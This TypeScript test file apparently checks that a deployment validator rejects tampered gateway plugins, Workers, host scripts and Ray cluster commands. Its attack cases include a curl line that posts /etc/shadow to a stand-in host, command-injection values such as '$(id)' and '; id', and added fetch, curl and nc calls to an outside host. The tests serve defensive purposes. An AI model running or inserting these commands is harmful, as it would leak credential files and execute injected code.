import type { Attack } from ".";
import { inputs, plugin, spec } from "./changes";

const command = (change: (command: any) => void) => inputs("Command", "alpa-connectors-10.0.0.11", change);
/** A change of the text of the script on a host. */
const script = (from: string, to: string) =>
    command(({ stdin }) => (stdin.value = stdin.value.replace(from, () => to)));
const connector = (change: (container: any) => void) =>
    spec("Deployment", "alpa-auth-cloudflared", ({ template }) => change(template.spec.containers[0]));
const head = (change: (container: any) => void) =>
    spec("RayCluster", undefined, ({ headGroupSpec }) => change(headGroupSpec.template.spec.containers[0]));
const worker = (change: (worker: any) => void) => inputs("WorkersScript", undefined, change);
const LUA = "return function() end";
const LISTED = /is a script with digest \w+, which is not in/;

export const SCRIPTS: Record<string, Attack[]> = {
    "scripts-listed": [
        [
            "other Lua before authentication",
            plugin("completions", "serverless-pre-function", ({ config }) => (config.functions = [LUA])),
            /^spec\.http\[0\]\.plugins\[1\]\.config\.functions\[0\]: is a script/,
            "intra",
        ],
        [
            "one more function",
            plugin("completions", "serverless-post-function", (p) => p.config.functions.push(LUA)),
            LISTED,
            "intra",
        ],
        [
            "the same Lua in another phase",
            plugin("completions", "serverless-pre-function", ({ config }) => (config.phase = "log")),
            LISTED,
            "intra",
        ],
        [
            "Lua in _meta",
            plugin("completions", "multi-auth", (p) => (p.config._meta.pre_function = LUA)),
            /_meta\.pre_function/,
            "intra",
        ],
        ["another Worker", worker((w) => (w.content += "\nfetch('https://example.org');")), "content: is a script"],
        [
            "a Worker with code in its settings",
            worker((w) => (w.content = w.content.replace("};\n", "}; fetch('https://example.org');\n"))),
            "content: is a script",
        ],
        [
            "another script on a host",
            script("set -eu\n", "set -eu\ncurl -d @/etc/shadow example.org\n"),
            "stdin: is a script",
        ],
        ["another unit on a host", script("DynamicUser=yes", "User=root"), "stdin: unit_text: is a script"],
        ["code in a parameter", script("start_seconds='\\''", "start_seconds='\\''$(id)"), "stdin: start_seconds"],
        [
            "keys of another issuer",
            script("https://example.cloudflareaccess.com/", "https://example.org/"),
            "stdin: keys_url: is a script",
        ],
        ["code after a parameter", script("password=''", "password=''; id"), "stdin: is a script"],
        ["a command line with shell syntax", command((c) => (c.create += "; id")), "create: must be sh -s --"],
        ["the command of another host", command((c) => (c.create = c.create.replace("10.0.0.11", "a"))), "create"],
        ["a host that is not verified", command((c) => delete c.connection.value.hostKey), "connection.hostKey"],
        ["a script in plain text", command((c) => (c.stdin = c.stdin.value)), "stdin: must be secret"],
        [
            "a connector that logs requests",
            connector(({ args }) => args.push("--loglevel", "debug")),
            /--loglevel/,
            "exposed",
        ],
        ["another command of Alpa's pod", head((c) => (c.args[0] += "\ncurl example.org")), LISTED, "converted"],
        ["another command of Alpa", head((c) => (c.env[1].value += "; curl example.org")), LISTED, "converted"],
        [
            "another program",
            head((c) => (c.command = ["nc", "example.org"])),
            /"nc" is not in the programs/,
            "converted",
        ],
    ],
    "fields-allowed": [
        ["a Worker with another binding", worker((w) => (w.bindings = [{ name: "a" }])), "bindings"],
        ["a log of what a script prints", command((c) => (c.logging = "stdout")), "logging: must be none"],
        ["a variable in the environment", command((c) => (c.environment = { A: "b" })), "environment: is not"],
    ],
};
